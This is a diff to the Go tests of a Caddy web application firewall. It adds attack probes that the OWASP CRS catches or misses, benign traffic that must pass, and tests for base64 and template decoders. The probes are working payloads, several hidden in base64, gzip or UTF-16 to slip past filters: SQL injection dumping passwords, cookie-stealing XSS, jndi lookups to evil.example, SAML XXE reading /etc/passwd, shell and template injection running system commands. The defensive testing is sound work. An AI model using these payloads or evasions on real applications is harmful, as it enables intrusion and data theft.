@@ -2,6 +2,8 @@ package waf
 
 import (
 	"bytes"
+	"compress/flate"
+	"compress/gzip"
 	"encoding/base64"
 	"errors"
 	"fmt"
@@ -12,6 +14,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
 	"github.com/caddyserver/caddy/v2"
 )
@@ -37,6 +40,51 @@ func wrap76(s string) string {
 		s = s[76:]
 	}
 	return b.String() + s
+}
+
+// deflated is s compressed as raw DEFLATE (SAML's HTTP-Redirect binding),
+// gzipped as gzip, utf16le as UTF-16LE text.
+func deflated(s string) []byte {
+	var b bytes.Buffer
+	w, _ := flate.NewWriter(&b, flate.BestCompression)
+	_, _ = w.Write([]byte(s))
+	_ = w.Close()
+	return b.Bytes()
+}
+
+func gzipped(s string) []byte {
+	var b bytes.Buffer
+	w := gzip.NewWriter(&b)
+	_, _ = w.Write([]byte(s))
+	_ = w.Close()
+	return b.Bytes()
+}
+
+func utf16le(s string) []byte {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(u), byte(u>>8))
+	}
+	return b
+}
+
+func b64bytes(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
+
+// samlRequest is a SAML AuthnRequest with the given prolog and text.
+func samlRequest(prolog, text string) string {
+	return `<?xml version="1.0" encoding="UTF-8"?>` + prolog + `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2026-12-02T09:21:59Z" Destination="https://idp.example.com/sso" AssertionConsumerServiceURL="https://sp.example.com/acs" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"><saml:Issuer>` + text + `</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>`
+}
+
+// dotted puts sep between the groups of four characters of s.
+func dotted(s, sep string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i += 4 {
+		if i > 0 {
+			b.WriteString(sep)
+		}
+		b.WriteString(s[i:min(i+4, len(s))])
+	}
+	return b.String()
 }
 
 func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
@@ -111,6 +159,9 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "NoSQL $set update in a form", method: "POST", path: "/profile", contentType: form, body: "user[$set][role]=admin"},
 		{name: "SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "x' UNION SELECT password FROM users --"}`},
 		{name: "XSS in a JSON Patch", method: "PATCH", path: "/api/users/7", contentType: "application/json-patch+json", body: `[{"op": "replace", "path": "/bio", "value": "<script>alert(document.cookie)</script>"}]`},
+		{name: "NoSQL $where with an unquoted key in a parameter", method: "GET", path: "/find?filter=" + q(`{$where: 'sleep(1)'}`)},
+		{name: "NoSQL $where with an unquoted key as text/plain", method: "POST", path: "/find", contentType: "text/plain", body: `{$where: 'sleep(1)'}`},
+		{name: "SSTI Razor code block", method: "POST", path: "/api", contentType: js, body: `{"name": "@{ System.IO.File.ReadAllText("web.config"); }"}`},
 		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
 	}
 	crsMisses = []probe{
@@ -120,10 +171,34 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "base64url RCE in a form field", method: "POST", path: "/ping", contentType: form, body: "host=" + b64url("127.0.0.1; cat /etc/passwd")},
 		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
 		{name: "base64 SQLi in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="` + b64("1' UNION SELECT username, password FROM users--") + `"`}}},
+		{name: "base64 in a cookie, its padding and + and / percent-encoded", method: "GET", path: "/", header: http.Header{"Cookie": {"q=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(b64("1' OR 1=1 -- ???>>> ~~~ UNION SELECT password FROM users"))}}},
+		{name: "base64 in a cookie, only its padding percent-encoded", method: "GET", path: "/", header: http.Header{"Cookie": {"pref=" + strings.ReplaceAll(b64("<script>alert(document.domain)</script>!"), "=", "%3D")}}},
 		{name: "base64 with line breaks (MIME) in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + wrap76(b64("1' UNION SELECT username, password FROM users-- and a longer tail to wrap the line")) + `"}`},
 		{name: "base64 without padding and with a space", method: "GET", path: "/search?q=" + q(strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[:20]+" "+strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[20:])},
 		{name: "base64 with extra padding", method: "POST", path: "/ping", contentType: form, body: "host=" + q(b64("127.0.0.1; cat /etc/passwd")+"==")},
 		{name: "base64 of a payload and one invalid UTF-8 byte", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}\xff") + `"}`},
+		{name: "base64 with a stray character after the padding", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `!"}`},
+		{name: "base64 with dots between groups (Node and Python skip them)", method: "GET", path: "/search?q=" + q(dotted(b64("<script>alert(document.cookie)</script>"), "."))},
+		{name: "base64 with dashes between groups (Python skips them)", method: "POST", path: "/ping", contentType: form, body: "host=" + q(dotted(b64("127.0.0.1; cat /etc/passwd"), "-"))},
+		{name: "base64 of both alphabets in one value (Node reads - as + and _ as /)", method: "POST", path: "/api", contentType: js, body: `{"v": "` + strings.Replace(b64("1' OR 1=1 -- ???>>> ~~~ UNION SELECT password FROM users"), "/", "_", 1) + `"}`},
+		{name: "SQLi in a base64 e-mail message (read by every rule but XSS)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
+			body: `{"raw": "` + b64url(htmlMail("1' UNION SELECT username, password FROM users--")) + `"}`},
+		{name: "jndi in a base64 shell script", method: "POST", path: "/api/jobs", contentType: js,
+			body: `{"content": "` + b64("#!/bin/sh\nset -eu\necho '${jndi:ldap://evil.example/a}'\n") + `"}`},
+		{name: "XXE in a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"))))},
+		{name: "SQLi gzipped then base64 in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64bytes(gzipped("1' UNION SELECT username, password FROM users--")) + `"}`},
+		{name: "SQLi as UTF-16LE then base64 in a query parameter", method: "GET", path: "/search?q=" + q(b64bytes(utf16le("1' UNION SELECT username, password FROM users--")))},
+		{name: "XSS as UTF-16BE with a byte order mark, base64 in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q(b64bytes(append([]byte{0xfe, 0xff}, func() []byte {
+			var b []byte
+			for _, u := range utf16.Encode([]rune("<script>alert(document.cookie)</script>")) {
+				b = append(b, byte(u>>8), byte(u))
+			}
+			return b
+		}()...)))},
+		{name: "short base64 ('or 1=1# unpadded, 11 characters)", method: "GET", path: "/login?user=J29yIDE9MSM"},
+		{name: "short base64 ({{7*7}}, 10 characters)", method: "POST", path: "/api", contentType: js, body: `{"name": "e3s3Kjd9fQ"}`},
+		{name: "short base64 (${7*7}, 8 characters)", method: "GET", path: "/hello?name=JHs3Kjd9"},
+		{name: "short base64 (';id;', 8 characters)", method: "POST", path: "/ping", contentType: form, body: "host=JztpZDsn"},
 		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
 		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
@@ -131,6 +206,8 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
 		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
+		{name: "base64 SQLi in an XML element's text", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><order><note>` + b64("1' UNION SELECT username, password FROM users--") + `</note></order>`},
+		{name: "base64 XSS in an XML attribute", method: "POST", path: "/api", contentType: "text/xml", body: `<order note="` + b64("<script>alert(document.cookie)</script>") + `"><id>7</id></order>`},
 		{name: "base64 SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		// NoSQL
 		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
@@ -147,6 +224,22 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "NoSQL $$ROOT in JSON", method: "POST", path: "/find", contentType: js, body: `{"newRoot": "$$ROOT"}`},
 		{name: "NoSQL $lookup as a bracketed query name", method: "GET", path: "/find?a[$lookup]=x"},
 		{name: "NoSQL $unionWith in JSON inside a parameter", method: "GET", path: "/find?pipeline=" + q(`[{"$unionWith": "secrets"}]`)},
+		{name: "NoSQL stage $currentOp in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$currentOp": {"allUsers": true, "idleSessions": true}}]`},
+		{name: "NoSQL stage $queryStats in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$queryStats": {}}]`},
+		{name: "NoSQL stage $listSearchIndexes in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$listSearchIndexes": {}}]`},
+		{name: "NoSQL stage with an unquoted key in a parameter", method: "GET", path: "/find?pipeline=" + q(`[{$unionWith:'secrets'}]`)},
+		{name: "NoSQL stage with an unquoted key as text/plain (JSON5)", method: "POST", path: "/find", contentType: "text/plain", body: `[{$unionWith: 'secrets'}, {$lookup: {from: 'users', as: 'u'}}]`},
+		{name: "NoSQL stage with an unquoted key as a form body", method: "POST", path: "/find", contentType: form, body: `[{$unionWith:'secrets'}]`},
+		{name: "NoSQL $where injection: ' || 'a'=='a", method: "GET", path: "/users?user=" + q("' || 'a'=='a")},
+		{name: "NoSQL $where injection: '||1==1//", method: "POST", path: "/login", contentType: js, body: `{"user": "'||1==1//"}`},
+		{name: "NoSQL $where injection: this.password.match", method: "GET", path: "/users?user=" + q("' && this.password.match(/.*/)//")},
+		{name: "NoSQL $where injection: this.role compared", method: "POST", path: "/login", contentType: js, body: `{"user": "' || this.role == 'admin' || '"}`},
+		{name: "NoSQL $where injection: double quotes", method: "POST", path: "/login", contentType: form, body: "user=" + q(`" || "a"=="a`)},
+		{name: "NoSQL $where injection: ; return this.isAdmin", method: "GET", path: "/users?user=" + q("1; return this.isAdmin")},
+		{name: "NoSQL $where injection: constructor.constructor", method: "POST", path: "/login", contentType: js, body: `{"user": "'||this.a.constructor.constructor('return process')().exit()||'"}`},
+		{name: "NoSQL $regularExpression (Extended JSON) and $options as keys", method: "POST", path: "/find", contentType: js, body: `{"user": {"$regularExpression": {"pattern": "^adm", "options": "i"}}}`},
+		{name: "NoSQL legacy query modifiers $query and $hint", method: "POST", path: "/find", contentType: js, body: `{"$query": {"user": "admin"}, "$hint": {"_id": 1}}`},
+		{name: "NoSQL $geoWithin as a bracketed name", method: "GET", path: "/find?loc[$geoWithin][$centerSphere]=x"},
 		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
 		// pattern does not start on
 		{name: "LDAP: a whole or-filter", method: "GET", path: "/users?name=" + q("(|(uid=*)(userPassword=*))")},
@@ -168,9 +261,50 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "SSTI Razor @(7*7)", method: "GET", path: "/hello?name=" + q("@(7*7)")},
 		{name: "SSTI {$smarty.version}", method: "POST", path: "/c", contentType: form, body: "c=" + q("{$smarty.version}")},
 		{name: "SSTI doT {{=7*7}}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{=7*7}}"}`},
+		{name: "SSTI Jinja2 adjacent literals ('_''_init_''_', 'po''pen')", method: "GET", path: "/hello?name=" + q(`{{namespace['_''_init_''_']['_''_globals_''_']['o''s']['po''pen']('i''d')['re''ad']()}}`)},
+		{name: "SSTI Jinja2 literals joined by ~ and + in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ ()['_'~'_cla'+'ss_'~'_']['_' '_base_' '_'] }}"}`},
+		{name: "SSTI Jinja2 octal escapes", method: "GET", path: "/hello?name=" + q(`{{''['\137\137class\137\137']}}`)},
+		{name: "SSTI Jinja2 \\N{LOW LINE} and \\U escapes in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "{{''['\\N{LOW LINE}\\N{LOW LINE}cl\\U00000061ss\\N{LOW LINE}\\N{LOW LINE}']}}"}`},
+		{name: "SSTI Twig |filter('system')", method: "GET", path: "/hello?name=" + q(`{{['id']|filter('system')}}`)},
+		{name: "SSTI Twig |map('system')", method: "POST", path: "/api", contentType: js, body: `{"name": "{{['id']|map('system')|join}}"}`},
+		{name: "SSTI Twig |sort('passthru')", method: "GET", path: "/hello?name=" + q(`{{['id','']|sort('passthru')}}`)},
+		{name: "SSTI Twig |reduce('system')", method: "GET", path: "/hello?name=" + q(`{{[0,0]|reduce('sys'~'tem','id')}}`)},
+		{name: "SSTI {% set x = 7*7 %}", method: "GET", path: "/hello?name=" + q("{% set x = 7*7 %}")},
+		{name: "SSTI {{[7]*7}}", method: "GET", path: "/hello?name=" + q("{{[7]*7}}")},
+		{name: "SSTI {{0x7*0x7}}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{0x7*0x7}}"}`},
+		{name: "SSTI Jinja2 names moved to cookies (request.cookies)", method: "GET", path: "/hello?name=" + q("{{ g[request.cookies.pp][request.cookies.g][request.cookies.b][request.cookies.i](request.cookies.o)[request.cookies.p](request.cookies.c)[request.cookies.r]() }}"),
+			header: http.Header{"Cookie": {"pp=pop; g=__globals__; b=__builtins__; i=__import__; o=os; p=popen; c=id; r=read"}}},
+		{name: "SSTI Jinja2 names moved to headers (request.headers)", method: "POST", path: "/api", contentType: js, body: `{"name": "{{''[request.headers.a][request.headers.b][1][request.headers.c]()}}"}`},
+		{name: "SSTI Razor Process.Start", method: "GET", path: "/hello?name=" + q(`@System.Diagnostics.Process.Start("cmd.exe","/c whoami")`)},
+		{name: "SSTI OGNL %{7*7}", method: "GET", path: "/hello?name=" + q("%{7*7}")},
+		{name: "SSTI FreeMarker [=7*7]", method: "GET", path: "/hello?name=" + q("[=7*7]")},
+		{name: "SSTI Velocity #{set}", method: "GET", path: "/hello?name=" + q("#{set}($x=7*7)$x")},
+		{name: "SSTI Smarty {7*7}", method: "POST", path: "/api", contentType: js, body: `{"name": "{7*7}"}`},
+		{name: "SSTI Django {% debug %}", method: "GET", path: "/hello?name=" + q("{% debug %}")},
+		{name: "SSTI Ruby #{%x(id)}", method: "GET", path: "/hello?name=" + q("#{%x(id)}")},
+		{name: "SSTI Twig {{ _context }}", method: "GET", path: "/hello?name=" + q("{{ _context }}")},
+		{name: "SSTI Symfony app.request.server", method: "GET", path: "/hello?name=" + q("{{ app.request.server.all|join(',') }}")},
+		{name: "SSTI Twig 'id'|filter('system')", method: "GET", path: "/hello?name=" + q("{{ 'id'|filter('system') }}")},
 		// LDAP injection
 	}
 	return crsCatches, crsMisses
+}
+
+// htmlMail is an e-mail message with an HTML body, as Gmail's API takes it
+// (raw) and SendGrid's attachments carry HTML, with the given text in it.
+func htmlMail(text string) string {
+	return "From: Jane <jane@example.com>\r\nTo: bob@example.com\r\nSubject: Your order #1234 has shipped\r\n" +
+		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=\"UTF-8\"\r\n\r\n" +
+		`<html><body><p>Hi Bob,</p><p>Your order <b>#1234</b> has shipped. <a href="https://example.com/orders/1234?utm_source=email&amp;utm_medium=email">Track it</a>.</p>` +
+		`<img src="https://example.com/logo.png" alt="logo" width="120"><p style="color:#888;font-family:Arial,sans-serif">` + text +
+		` <a href="https://example.com/unsubscribe?u=abc123">Unsubscribe</a></p></body></html>` + "\r\n"
+}
+
+// htmlPage is an HTML document with the given text in it.
+func htmlPage(text string) string {
+	return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice 1234</title><style>td{padding:4px}</style></head>` +
+		`<body><h1>Invoice 1234</h1><table><tr><td>Lamp</td><td>$5.99</td></tr><tr><td>Shipping</td><td>$2.00</td></tr></table>` +
+		`<p>` + text + `</p><p><a href="https://example.com/invoices/1234.pdf">Download the PDF</a></p></body></html>`
 }
 
 // benignTable is ordinary traffic that must pass: the false-positive
@@ -204,6 +338,8 @@ func benignTable() []probe {
 		{name: "a JSON Patch (RFC 6902)", method: "PATCH", path: "/apis/apps/v1/namespaces/default/deployments/web", contentType: "application/json-patch+json",
 			body: `[{"op": "replace", "path": "/spec/replicas", "value": 3}, {"op": "add", "path": "/metadata/labels/tier", "value": "frontend"}]`},
 		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
+		{name: "a Twig/Jinja2 template: literals joined, filters with arguments", method: "POST", path: "/api/templates", contentType: js,
+			body: `{"body": "{{ 'Dear ' ~ user.first_name|title }}, {{ items|map(attribute='name')|join(', ') }} {{ \"a\" \"b\" }}"}`},
 		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
 			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
 		// not here: "Set ${HOME}/bin in your PATH", which the CRS alone
@@ -221,12 +357,40 @@ func benignTable() []probe {
 			body: `{"text": "Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore"}`},
 		{name: "JSON sent as text/plain", method: "POST", path: "/api/notes", contentType: "text/plain; charset=utf-8",
 			body: `{"title": "Grüße", "content": "` + b64("Hello, world! This is a plain text file.") + `", "tags": [], "n": 2}`},
+		{name: "text/plain JavaScript-like text with prices", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{note: 'costs $5, or $4 with the code', tags: [sale, spring]}"},
 		{name: "plain text that starts with a brace", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{not json} just a note"},
 		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
 		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
 		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
 		{name: "cookies of a real site", method: "GET", path: "/", header: http.Header{"Cookie": {"lang=de-CH; theme=dark; cart=" + b64(`{"items":[1,2]}`)}}},
 		{name: "a percent-encoded cookie (Google's FCCDCF, from the CRS's tests)", method: "GET", path: "/", header: http.Header{"Cookie": {"FCCDCF=%5Bnull%2Cnull%2Cnull%2Cnull%2Cnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2-fd1c-416b-a0c7-be2127c321b1%5C%22%2C%5B1764611074%2C138000000%5D%5D%22%5D%5D%5D"}}},
+		{name: "a JWT in a query parameter and a cookie (its dots skipped, it decodes to its claims)", method: "GET", path: "/api/orders?access_token=eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAidXNlci03IiwgIm5hbWUiOiAiSmFuZSBPJ05laWwiLCAiZW1haWwiOiAiamFuZUBleGFtcGxlLmNvbSIsICJpc3MiOiAiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tLyIsICJhdWQiOiAiYXBpOi8vZGVmYXVsdCIsICJzY29wZSI6ICJvcGVuaWQgcHJvZmlsZSBlbWFpbCByZWFkOm9yZGVycyB3cml0ZTpvcmRlcnMiLCAicm9sZXMiOiBbImFkbWluIiwgImJpbGxpbmciXSwgImlhdCI6IDE3NjQ2MDAwMDAsICJleHAiOiAxNzY0NjAzNjAwfQ.KnQvZKx7TuM8EzSn2RTjOmricuTa9BpQTIQu7xZlDu4",
+			header: http.Header{"Cookie": {"session=eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAidXNlci03IiwgIm5hbWUiOiAiSmFuZSBPJ05laWwiLCAiZW1haWwiOiAiamFuZUBleGFtcGxlLmNvbSIsICJpc3MiOiAiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tLyIsICJhdWQiOiAiYXBpOi8vZGVmYXVsdCIsICJzY29wZSI6ICJvcGVuaWQgcHJvZmlsZSBlbWFpbCByZWFkOm9yZGVycyB3cml0ZTpvcmRlcnMiLCAicm9sZXMiOiBbImFkbWluIiwgImJpbGxpbmciXSwgImlhdCI6IDE3NjQ2MDAwMDAsICJleHAiOiAxNzY0NjAzNjAwfQ.KnQvZKx7TuM8EzSn2RTjOmricuTa9BpQTIQu7xZlDu4"}}},
+		{name: "sentences with punctuation and dashes", method: "POST", path: "/api/notes", contentType: js,
+			body: `{"title": "Q3-2026 roadmap: re-design, follow-ups", "body": "Well-known, long-standing issues; e.g. state-of-the-art end-to-end tests... (see ticket ABC-1234)."}`},
+		{name: "an XML document with base64 of plain text and of binary", method: "POST", path: "/api/files", contentType: "application/xml",
+			body: `<?xml version="1.0" encoding="UTF-8"?><file name="readme.txt" sha="9f86d081884c7d659a2feaa0c55ad015"><content>` + b64("Hello, world! This is a plain text file.\nLine two.") + `</content><thumb>iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==</thumb></file>`},
+		{name: "an e-mail with an HTML body in base64url (Gmail's API raw)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
+			body: `{"raw": "` + b64url(htmlMail("Example Inc., 1 Main St.")) + `"}`},
+		{name: "an HTML attachment in base64 (SendGrid's mail/send)", method: "POST", path: "/v3/mail/send", contentType: js,
+			body: `{"personalizations": [{"to": [{"email": "bob@example.com"}]}], "from": {"email": "shop@example.com"}, "subject": "Invoice", "attachments": [{"content": "` + b64(htmlPage("Thank you for your order!")) + `", "filename": "invoice.html", "type": "text/html"}]}`},
+		{name: "a small shell script in base64", method: "POST", path: "/api/jobs", contentType: js,
+			body: `{"name": "deploy.sh", "content": "` + b64("#!/bin/sh\nset -eu\ncd /opt/app\n./bin/migrate --env production\nsystemctl restart app.service\necho \"deployed $(date)\"\n") + `"}`},
+		{name: "a Kubernetes Secret's data: a two-line script", method: "POST", path: "/api/v1/namespaces/default/secrets", contentType: js,
+			body: `{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "init"}, "data": {"init.sh": "` + b64("#!/bin/sh\nexec /usr/local/bin/app --config /etc/app/config.yaml\n") + `"}}`},
+		{name: "an LDAP filter sent as data (an admin API)", method: "POST", path: "/admin/directory/search", contentType: js,
+			body: `{"filter": "(&(objectClass=user)(mail=a@b.c))", "or": "(|(cn=Jane*)(mail=jane@example.com))"}`},
+		{name: "text with #{...} and LDAP operators named", method: "POST", path: "/api/notes", contentType: js,
+			body: `{"text": "Ticket #{123 456}; use (&) for AND and (|) for OR in LDAP filters."}`},
+		{name: "text with quotes and || (a code review comment)", method: "POST", path: "/api/comments", contentType: js,
+			body: `{"comment": "Prefer a || b over the ternary; the value is 'n/a' || empty."}`},
+		{name: "a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest("", "https://sp.example.com/metadata")))) + "&RelayState=" + q("https://sp.example.com/app")},
+		{name: "gzipped JSON in base64", method: "POST", path: "/api/batches", contentType: js, body: `{"encoding": "gzip", "data": "` + b64bytes(gzipped(`{"events": [{"type": "page_view", "path": "/pricing", "ts": 1764600000}, {"type": "click", "target": "signup"}]}`)) + `"}`},
+		{name: "UTF-16LE text in base64", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + b64bytes(utf16le("Grüße aus Köln, and a plain note.")) + `"}`},
+		{name: "an SVG icon in base64", method: "POST", path: "/api/icons", contentType: js,
+			body: `{"icon": "` + b64(`<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`) + `"}`},
+		{name: "a SAML response in base64 (HTTP-POST binding)", method: "POST", path: "/acs", contentType: form,
+			body: "SAMLResponse=" + q(b64(samlRequest("", "https://idp.example.com/metadata"))) + "&RelayState=" + q("/app")},
 		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
 	}
 }
@@ -293,7 +457,7 @@ func TestPlainBase64(t *testing.T) {
 		"Donaudampfschifffahrt":                        "",             // decodes to binary
 		"9f86d081884c7d659a2feaa0c55ad015":             "",             // hex: binary
 		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "",             // PNG
-		"aGVsbG8gd29ybGQh+-_/":                         "",             // mixed alphabets
+		"aGVsbG8gd29ybGQh+-_/":                         "hello world!", // mixed alphabets: Python's reading
 		"aGVsbG8gd29ybGQh===":                          "hello world!", // extra padding
 		"aGVsbG8gd29ybGQ":                              "hello world",  // missing padding
 		"aGVsbG8gd29y\r\nbGQh":                         "hello world!", // a MIME line break
@@ -302,15 +466,114 @@ func TestPlainBase64(t *testing.T) {
 		b64("1' OR 1=1 --\xff"):                        "1' OR 1=1 --", // a byte that is not UTF-8
 		b64("\xff\xfe\xfd<script>"):                    "",             // 3 of 11 not text
 		"internationalization":                         "",
+		"JHs3Kjd9":                                     "${7*7}",   // short: printable ASCII
+		"J29yIDE9MSM":                                  "'or 1=1#", // short, unpadded
+		"InferSchema":                                  "",         // short: not ASCII
+		"password":                                     "",
+		"9f86d081":                                     "",
+		"Zm9vYmFy!":                                    "", // short: one alphabet only
 		"Authorization":                                "",
-		"aGVsbG8gd29ybGQ=x":                            "", // pad inside
-		"hello world, plainly":                         "", // not base64
+		"aGVsbG8gd29ybGQ=x":                            "hello world",             // pad inside: both stop there
+		"aGVsbG8gd29ybGQh==!":                          "hello world!",            // a stray character
+		"aGVs.bG8g.d29y.bGQh":                          "hello world!",            // dots between groups
+		"aGVs-bG8g-d29y-bGQh":                          "hello world!",            // dashes: Python skips them
+		"aGVs=bG8gd29ybGQh":                            "hello world!",            // Python skips a pad that ends no group
+		"MScgT1IgMT0xIC0tID8_Pz4+PiB+fn4=":             "1' OR 1=1 -- ???>>> ~~~", // both alphabets: Node's reading
+		"hello world, plainly":                         "",                        // not base64
 		"":                                             "",
 	} {
 		got, ok := plainBase64(v)
 		if ok != (want != "") || got != want {
 			t.Errorf("plainBase64(%q) = %q, %v; want %q", v, got, ok, want)
 		}
+	}
+}
+
+func TestTemplateLiterals(t *testing.T) {
+	for v, want := range map[string]string{
+		`{{namespace['_''_init_''_']['o''s']}}`:     `{{namespace['__init__']['os']}}`,
+		`{{''['\137\137class\137\137']}}`:           `{{''['__class__']}}`,
+		`{{ x['\x5f\x5fcl\u0061ss\U0000005f_'] }}`:  `{{ x['__class__'] }}`,
+		`{{ x["\N{LOW LINE}\N{low line}init__"] }}`: `{{ x["__init__"] }}`,
+		`{{ ()['_'~'_cla'+'ss_' ~ '_'] }}`:          `{{ ()['__class__'] }}`,
+		`{{['id']|filter('sys'~'tem')}}`:            `{{['id']|filter('system')}}`,
+		`O'Brien said ${'ja' + 'va'}`:               `O'Brien said ${'java'}`,
+		`#{'a' "b"}`:                                `#{'ab'}`,
+		`{% set x = 'a\'b' %}`:                      `{% set x = 'a'b' %}`,
+		`{{ 'Dear ' ~ user.name }}`:                 "", // nothing joined or escaped
+		`{{ 'unclosed }}`:                           "",
+		`O'Brien's 'a' 'b' without delimiters`:      "",
+		`{{ '\q' }}`:                                "", // not an escape: as it is
+		`{{ '\x5' }}`:                               "",
+		`plain {text}`:                              "",
+	} {
+		got, ok := templateLiterals(v)
+		if ok != (want != "") || got != want {
+			t.Errorf("templateLiterals(%q) = %q, %v; want %q", v, got, ok, want)
+		}
+		if len(got) > len(v) {
+			t.Errorf("templateLiterals(%q) is longer than it", v)
+		}
+	}
+}
+
+func FuzzTemplateLiterals(f *testing.F) {
+	for _, s := range []string{`{{'a''b'}}`, `{{'\137\x5f\u005f\U0000005f\N{LOW LINE}'}}`, `${'a'~"b"+'c'}`, `{%'\`} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		if got, ok := templateLiterals(v); ok && (len(got) > len(v) || got == v) {
+			t.Fatalf("%q: %q (%d bytes from %d)", v, got, len(got), len(v))
+		}
+	})
+}
+
+func TestDocumentKind(t *testing.T) {
+	for s, want := range map[string]string{
+		htmlMail("x"):                            suffixMarkup,
+		htmlPage("x"):                            suffixMarkup,
+		"#!/bin/sh\nset -e\necho hi\n":           suffixScript,
+		"#!/bin/sh; cat /etc/passwd":             "",           // one line: a command, not a script
